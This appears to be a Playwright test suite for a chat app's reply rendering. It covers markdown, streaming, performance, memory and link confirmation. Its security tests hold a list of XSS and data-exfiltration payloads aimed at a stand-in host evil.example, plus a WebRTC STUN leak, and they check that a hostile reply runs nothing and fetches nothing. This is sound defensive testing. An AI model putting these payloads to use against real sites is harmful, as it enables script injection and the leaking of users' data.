import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, lastReply, openPage, say, test, type Page } from "../../www/page-testing.ts";
import { inPieces, scriptEngine } from "./scripted.mts";

/** Has the page show `text` as a reply that came in pieces. */
async function showReply(page: Page, text: string): Promise<void> {
  await scriptEngine(page, { replies: [inPieces(text)] });
  await openPage(page);
  await say(page, "Go on");
  await expect(page.locator('article[data-role="assistant"]')).toHaveAttribute("data-status", "whole");
}

test("markdown becomes what it means", async ({ page }) => {
  await showReply(
    page,
    [
      "# Title",
      "Some **bold**, *slanted* and `code`, 5 < 6, and 2 dollars: $3 and $4.",
      "1. one\n2. two\n   - inner",
      "| a | b |\n|---|--:|\n| 1 | 2 |",
      "```rust\nfn main() { println!(\"hi\"); }\n```",
      "Inline $x^2 + 1$ and $$\\int_0^1 x\\,dx = \\frac{1}{2}$$",
      "> said",
    ].join("\n\n"),
  );
  const reply = lastReply(page);
  await expect(reply.locator("h3")).toHaveText("Title");
  await expect(reply.locator("strong")).toHaveText("bold");
  await expect(reply.locator("ol > li")).toHaveCount(2);
  await expect(reply.getByRole("region", { name: "Table" }).locator("td")).toHaveText(["1", "2"]);
  await expect(reply.locator("pre code .hljs-keyword").first()).toHaveText("fn");
  await expect(reply.locator(".katex")).toHaveCount(2);
  await expect(reply).toContainText("5 < 6, and 2 dollars: $3 and $4.");
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await reply.getByRole("button", { name: "Copy" }).click();
  await expect(reply.getByRole("button", { name: "Copied" })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('fn main() { println!("hi"); }');
});

test("what is half-written is shown as what it will be", async ({ page }) => {
  await scriptEngine(page, { replies: [["Some **bold", " words", "**, a [link", "](https://exam", "ple.com/a)", " end"]], pause_ms: 400 });
  await openPage(page);
  await say(page, "Go on");
  await expect(lastReply(page).locator("strong")).toHaveText(/^bold/);
  await expect(lastReply(page)).not.toContainText("*");
  await expect(lastReply(page)).not.toContainText("](");
  await expect(lastReply(page).getByRole("link")).toHaveAttribute("href", "https://example.com/a");
});

/** Each tries to run something, or to have something fetched, without a click. */
const HOSTILE = [
  "<script>document.title = 'ran'</script>",
  "<img src=x onerror=\"document.title='ran'\">",
  "![a](https://evil.example/leak.png?secret=1)",
  "![a][ref]\n\n[ref]: https://evil.example/ref.png",
  "<img srcset='https://evil.example/a.png 1x'>",
  "<picture><source srcset='https://evil.example/b.png'></picture>",
  "<video poster='https://evil.example/p.png' src='https://evil.example/v.mp4'></video>",
  "<audio src='https://evil.example/a.mp3' autoplay></audio>",
  "<style>@import 'https://evil.example/s.css'; * { background: url(https://evil.example/bg.png) }</style>",
  "<div style='background:url(https://evil.example/c.png)'>x</div>",
  "<table background='https://evil.example/t.png'><tr><td>x</td></tr></table>",
  "<svg><image href='https://evil.example/i.png'/><script>document.title='ran'</script></svg>",
  "<input type=image src='https://evil.example/in.png'>",
  "<link rel=preload as=image href='https://evil.example/l.png'>",
  "<link rel=prefetch href='https://evil.example/l2'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
  "<base href='https://evil.example/'>",
  "<iframe src='https://evil.example/f' srcdoc='<script>parent.document.title=1</script>'></iframe>",
  "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
  "<form action='https://evil.example/'><button autofocus onfocus=\"document.title='ran'\">x</button></form>",
  "<a href='https://evil.example/' ping='https://evil.example/ping' onclick='document.title=1'>x</a>",
  "[run](javascript:document.title='ran')",
  "[run](data:text/html,<script>1</script>)",
  "[run](  jAvAsCrIpT:alert(1))",
  "<math><mtext><mglyph><style><img src=x onerror=\"document.title='ran'\"></style></mglyph></mtext></math>",
  "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/k.png}$ $\\htmlStyle{background:url(https://evil.example/h.png)}{x}$",
  "$$\\def\\a{\\a\\a}\\a$$",
  "```html\n<img src=x onerror=\"document.title='ran'\"></code></pre><script>document.title='ran'</script>\n```",
  "``` \"><img src=x onerror=document.title='ran'>\ncode\n```",
  "<details open ontoggle=\"document.title='ran'\"><summary>x</summary></details>",
  "<noscript><p title=\"</noscript><img src=x onerror=document.title='ran'>\"></noscript>",
  "<!--><img src=x onerror=document.title='ran'>-->",
];

test("C18: a hostile reply runs nothing and has nothing fetched", async ({ page, baseURL }) => {
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol !== "data:" && url.protocol !== "blob:" && url.origin !== new URL(baseURL ?? "").origin) {
      elsewhere.push(request.url());
    }
  });
  page.on("dialog", () => elsewhere.push("a dialog"));
  await showReply(page, `${HOSTILE.join("\n\n")}\n\nThe end.`);
  await expect(lastReply(page)).toContainText("The end.");
  await page.waitForTimeout(500);
  expect(elsewhere).toEqual([]);
  expect(await page.title()).toBe("Go on · Tandem");
  const found = await lastReply(page).evaluate((reply) => ({
    elements: [...reply.querySelectorAll("img, script, style, iframe, object, embed, video, audio, form, link, meta, base, input, image, svg")]
      // Formulas draw their stretched marks.
      .filter((element) => !element.closest(".katex"))
      .map((element) => element.outerHTML),
    handlers: [...reply.querySelectorAll("*")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on") || name === "ping" || name === "srcset"),
    ),
    links: [...reply.querySelectorAll("a")].map((link) => link.protocol),
  }));
  expect(found.elements).toEqual([]);
  expect(found.handlers).toEqual([]);
  expect(new Set(found.links)).toEqual(new Set(["https:"]));
});

test("C18: no way out of a reply reaches a server that counts, and the same without the page's care does", async ({ page }) => {
  const hits: string[] = [];
  const sink = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end("leaked");
  });
  // A connection of WebRTC's begins with a datagram.
  const stun = createSocket("udp4", () => hits.push("stun"));
  await new Promise<void>((resolve) => sink.listen(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
  const at = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
  const call = `new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${stun.address().port}'}]})`;
  const connect = `(async()=>{const c=${call};c.createDataChannel('x');await c.setLocalDescription(await c.createOffer())})()`;
  const ways = [
    ...HOSTILE.map((text) => text.replaceAll("https://evil.example", at)),
    `<img src=x onerror="${connect}">`,
    `<script>${connect}</script>`,
    `[a](javascript:${connect})`,
    `![${at}/alt](${at}/image "${at}/title")`,
    `[![a](${at}/inner)](${at}/outer)`,
    `<${at}/autolink>`,
    `<img src="${at}/raw?s3cret">`,
    `![a](//127.0.0.1:${(sink.address() as AddressInfo).port}/relative)`,
    `[a]: ${at}/definition`,
    `$\\url{${at}/tex}$ $\\htmlData{x=${at}}{y}$`,
  ].join("\n\n");
  await showReply(page, `${ways}\n\nThe end.`);
  await expect(lastReply(page)).toContainText("The end.");
  await lastReply(page).getByRole("link").first().hover();
  await page.waitForTimeout(700);
  expect(hits).toEqual([]);
  // The same text as a page: the server hears of it, so the test can fail.
  const open = await page.context().newPage();
  await open.goto(`${at}/open`);
  await open.evaluate(connect);
  await expect.poll(() => hits).toContain("stun");
  // Some of it leads the page elsewhere at once, and nobody knows which of the rest is quicker.
  await open.evaluate((html) => void setTimeout(() => (document.body.innerHTML = html)), ways);
  await expect.poll(() => new Set(hits).size).toBeGreaterThan(5);
  // Closed amid all that, the browser would not come to its end.
  await open.waitForTimeout(500);
  await open.goto("about:blank");
  await open.close();
  sink.closeAllConnections();
  sink.close();
  stun.close();
});

test("a reply's source is the text that the model wrote, to the letter", async ({ page }) => {
  const text = "## Title\n\n**bold** <b>raw</b> `code` ![i](https://evil.example/x)\n\n$x^2$";
  await showReply(page, text);
  await expect(lastReply(page).locator("strong")).toBeVisible();
  const button = page.getByRole("button", { name: "Source of this reply" });
  await button.click();
  const source = page.getByRole("region", { name: "Source of the reply" });
  expect(await source.textContent()).toBe(text);
  await expect(lastReply(page)).toBeHidden();
  await expect(button).toHaveAttribute("aria-pressed", "true");
  // One view at a time.
  await page.getByRole("button", { name: "Tokens of this reply" }).click();
  await expect(source).toHaveCount(0);
  await page.getByRole("button", { name: "Tokens of this reply" }).click();
  await expect(lastReply(page)).toBeVisible();
});

test("a link shows where it goes and asks before it is followed", async ({ page }) => {
  await showReply(page, "See [the bank](https://bank.example.evil.example/login?x=1).");
  const link = lastReply(page).getByRole("link");
  await expect(link).toContainText("bank.example.evil.example");
  await link.click();
  const asked = page.getByRole("dialog");
  await expect(asked).toContainText("https://bank.example.evil.example/login?x=1");
  await asked.getByRole("button", { name: "Stay" }).click();
  await expect(asked).toHaveCount(0);
  expect(page.context().pages()).toHaveLength(1);
});

/** About a thousand tokens of prose, lists, tables and code. */
const LONG = Array.from({ length: 12 }, (_, at) =>
  [
    `## Part ${at}`,
    "A paragraph with **bold words**, *slanted ones*, `code` and a [link](https://example.com/page), so that it has all sorts of marks in it.",
    "- first of a list\n- second of a list\n  - inner one",
    "```typescript\nexport function sum(values: readonly number[]): number {\n  return values.reduce((a, b) => a + b, 0); // all of them\n}\n```",
    "| name | value |\n|---|---|\n| a | 1 |\n| b | 2 |",
  ].join("\n\n"),
).join("\n\n");

/** What is 50 ms on the machine that the page was measured on is as much longer here as this
 * one is slower, now. */
function feltMs(): number {
  const REFERENCE_MS = 12;
  const took = Array.from({ length: 9 }, () => {
    const began = performance.now();
    let text = "";
    for (let at = 0; at < 60_000; at += 1) text = `${at}${text.slice(0, 20)}`;
    return performance.now() - began + text.length * 0;
  });
  return 50 * Math.max(1, (took.sort((a, b) => a - b)[6] ?? 0) / REFERENCE_MS);
}

test("a thousand tokens of markdown hold the page up for no moment that is felt", async ({ page }) => {
  const pieces = inPieces(LONG);
  expect(pieces.length).toBeGreaterThan(1_000);
  await scriptEngine(page, { replies: [pieces], pause_ms: 4 });
  await openPage(page);
  const limit_ms = await page.evaluate(feltMs);
  await page.evaluate(() => {
    const found = { long_ms: [] as number[], shift: 0 };
    (window as { found?: typeof found }).found = found;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) found.long_ms.push(entry.duration);
    }).observe({ type: "longtask" });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) found.shift += (entry as PerformanceEntry & { value: number }).value;
    }).observe({ type: "layout-shift" });
  });
  await say(page, "Go on");
  // Waited for inside the page: the test's own looking would be what it measures.
  await page.evaluate(async () => {
    const whole = () => document.querySelector('article[data-status="whole"]');
    while (!whole()) await new Promise((resolve) => setTimeout(resolve, 100));
  });
  const { long_ms, shift } = await page.evaluate(
    () => (window as unknown as { found: { long_ms: number[]; shift: number } }).found,
  );
  const told = long_ms.map((ms) => `${ms} ms`).join(", ") || "none";
  console.log(`long tasks: ${told}, where ${limit_ms.toFixed(0)} ms are 50; layout shift: ${shift.toFixed(4)}`);
  // On a machine that others use too, some may be accidents.
  expect(long_ms.filter((ms) => ms > limit_ms).length).toBeLessThanOrEqual(3);
  expect(shift).toBeLessThan(0.05);
  await expect(lastReply(page).locator("figure.code")).toHaveCount(12);
});

test("fifty replies leave the page as light as ten", async ({ page }) => {
  test.slow();
  const text = LONG.slice(0, 2_500);
  await scriptEngine(page, { replies: [inPieces(text)] });
  await openPage(page);
  const session = await page.context().newCDPSession(page);
  await session.send("Performance.enable");
  const weigh = async () => {
    await session.send("HeapProfiler.collectGarbage");
    const { metrics } = await session.send("Performance.getMetrics");
    const of = (name: string) => metrics.find((metric) => metric.name === name)?.value ?? 0;
    return { heap: of("JSHeapUsedSize"), nodes: of("Nodes") };
  };
  const weights = [];
  for (let at = 1; at <= 50; at += 1) {
    // A conversation each, as a day has them: what is not in view is not held.
    await page.keyboard.press("Control+Shift+O");
    await say(page, `Number ${at}`);
    await expect(page.locator('article[data-role="assistant"]')).toHaveAttribute("data-status", "whole");
    if (at % 10 === 0) weights.push(await weigh());
  }
  console.log(weights.map(({ heap, nodes }) => `${(heap / 1e6).toFixed(1)} MB, ${nodes} nodes`).join("; "));
  const [first, last] = [weights[0], weights.at(-1)];
  expect(last?.heap).toBeLessThan((first?.heap ?? 0) + 6e6);
  expect(last?.nodes).toBeLessThan((first?.nodes ?? 0) * 2 + 1_000);
});
